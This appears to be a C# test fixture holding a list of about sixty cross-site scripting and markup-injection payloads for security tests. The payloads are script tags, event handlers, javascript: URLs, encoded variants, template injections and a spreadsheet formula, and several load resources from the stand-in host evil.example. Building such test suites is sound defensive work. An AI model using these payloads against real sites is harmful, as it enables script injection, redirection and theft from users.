namespace Feedforward.Studio.Tests.Security;

/// <summary>Sixty names that would run a script, or leave their place, where a page believes them.</summary>
internal static class MarkupPayloads
{
    internal static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "</text><script>alert(1)</script>", "</svg><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"javascript:alert(1)\">", "<embed src=\"javascript:alert(1)\">", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
        "<math><mtext></mtext><script>alert(1)</script></math>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<style>*{background:url(javascript:alert(1))}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<form action=//evil.example><button>x</button></form>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1)", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<!--<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "@(alert(1))", "<%= alert(1) %>", "';alert(1);//", "\\\";alert(1);//",
        "\u2028alert(1)\u2029", "=HYPERLINK(\"http://evil.example\")", "\u202e<script>alert(1)</script>",
    ];
}
